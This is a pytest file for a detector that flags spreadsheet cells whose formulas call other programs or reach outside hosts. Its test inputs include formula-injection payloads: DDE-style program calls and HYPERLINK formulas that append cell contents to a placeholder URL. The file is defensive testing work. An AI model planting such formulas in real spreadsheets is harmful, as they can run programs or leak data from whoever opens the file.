from __future__ import annotations

import pytest
from gatelens.languages.formulas.cell import acting_cell
from hypothesis import given
from hypothesis import strategies as st

ACTING = frozenset({"WEBSERVICE", "CALL", "DDE"})
SENDING = frozenset({"HYPERLINK"})


def words(text: str) -> str:
    found = acting_cell(text, ACTING, SENDING)
    return found.explanation if found else ""


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("=prog|'/k x'!A0", "asks another program"),
        ("@SUM(1)*prog|'/k x'!A0", "asks another program"),
        ("-2+3+prog|'/k x'!''", "asks another program"),
        (" =\"prog\"+prog|'/k x'!A1", "asks another program"),
        ('=DDE("prog";"x";"y")', "asks another program"),
        ('=WEBSERVICE("https://a.example")', "reaches beyond"),
        ('+WEBSERVICE("https://a.example")', "reaches beyond"),
        ("＝WEBSERVICE(A1)", "reaches beyond"),
        ("Ann,=WEBSERVICE(A1)", "reaches beyond"),
        ('=HYPERLINK("https://a.example/"&A1,"x")', "what other cells hold"),
        ('=HYPERLINK(CONCAT("https://a.example/",A1))', "what other cells hold"),
    ],
)
def test_formulas_that_act_are_told(text: str, told: str) -> None:
    assert told in words(text)


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        "-5",
        "+49 30 1234",
        "@ann",
        "=SUM(A1:A3)",
        '=HYPERLINK("https://a.example","x")',
        "+1 for the webservice (see above)",
        "--a | 'b' !important",
        "first line\n=WEBSERVICE(A1)",
        "a = WEBSERVICE(x)",
        "",
    ],
)
def test_numbers_names_and_formulas_that_compute_pass(text: str) -> None:
    assert not words(text)


@given(st.lists(st.sampled_from(["=", "+", "|'", "'!A0", "CALL(", ";", "\t", "A1"]) | st.text(max_size=9)).map("".join))
def test_no_text_raises(text: str) -> None:
    found = acting_cell(text, ACTING, SENDING)
    assert found is None or len(found.evidence) <= 160
